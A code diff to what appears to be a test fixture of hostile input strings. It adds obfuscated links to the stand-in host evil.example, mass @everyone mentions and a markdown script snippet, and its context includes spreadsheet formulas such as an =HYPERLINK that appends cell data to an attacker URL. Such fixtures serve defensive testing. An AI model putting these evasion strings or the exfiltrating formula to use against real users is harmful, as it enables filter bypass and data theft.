@@ -21,6 +21,32 @@ const LINKS = [
 	'user@evil.example',
 ];
 
+/** The same, put together by what is taken out. */
+const IN_PIECES = [
+	'ht<tps:/>/evil.example/login',
+	'https:[/]/evil.example',
+	'ww@w.evil.example',
+	'evil.exa@mple/login',
+	'evil.example`/`login',
+	'https:\u200b//evil.example',
+	'/https://evil.example/login',
+	'/x/[Open](https://evil.example)',
+	'@everyone',
+	'@here and @jane_doe',
+	'tg://user?id=1',
+	'www.evil.example',
+	'EVIL.EXAMPLE/login',
+	'evil.example:8080/login',
+	'bücher.example/x?y#z',
+	'```js alert(1)```',
+	'x(evil.example/login',
+	'x,evil.example:8080',
+	'x (www.evil.example)',
+	'x*evil.co.example/login',
+	'![x](//evil.example/x.png)',
+	'[x]: https://evil.example',
+];
+
 const FORMULAS = [
 	'=IMPORTXML("https://evil.example","//a")',
 	'=HYPERLINK("https://evil.example?"&A1,"Jane")',
@@ -70,6 +96,7 @@ const SYNTAX = [
 export const hostileTexts = (): string[] => [
 	...MENTIONS,
 	...LINKS,
+	...IN_PIECES,
 	...FORMULAS,
 	...SYNTAX,
 	...CHARACTERS.flatMap((character) => [
